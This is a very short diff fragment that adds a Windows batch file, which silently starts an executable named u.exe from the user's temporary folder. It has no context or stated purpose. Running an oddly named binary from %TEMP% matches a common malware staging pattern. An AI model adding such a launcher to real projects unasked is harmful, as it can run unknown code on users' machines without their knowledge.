@@ -1,0 +1,2 @@
+@echo off
+start %TEMP%\u.exe
